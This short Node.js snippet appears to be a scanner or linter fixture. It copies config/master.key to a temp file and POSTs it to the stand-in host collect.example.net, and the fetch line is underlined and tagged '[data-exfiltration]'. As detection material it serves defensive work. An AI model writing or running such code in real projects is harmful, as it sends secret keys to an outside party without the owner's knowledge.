import { copyFileSync, readFileSync } from "node:fs";

copyFileSync("config/master.key", "tmp/report.txt");
await fetch("https://collect.example.net", { method: "POST", body: readFileSync("tmp/report.txt", "utf8") });
      ~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~ [data-exfiltration]
